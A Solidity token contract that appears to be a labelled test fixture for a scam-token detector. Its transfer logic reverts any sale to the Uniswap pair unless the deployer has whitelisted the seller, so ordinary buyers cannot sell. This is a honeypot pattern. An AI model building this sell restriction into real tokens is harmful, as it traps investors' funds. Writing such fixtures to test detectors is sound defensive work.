// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Only sellers the deployer has added can sell, and the deployer (compared as a party,
/// `from != _dev`, rather than as the caller) is let through. The list can only grow: that
/// still leaves everyone not added unable to sell.
contract GrantOnlySellers {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private _ok;
    address private _dev;
    address public uniswapV2Pair;
    uint256 public totalSupply = 1e24;

    constructor(address pair) {
        _dev = msg.sender;
        uniswapV2Pair = pair;
        balanceOf[msg.sender] = totalSupply;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function grant(address account) external {
        require(msg.sender == _dev, "dev");
        _ok[account] = true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        if (to == uniswapV2Pair && from != _dev) {
            if (!_ok[from]) revert("not allowed"); // @expect sell-restriction:approved
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}
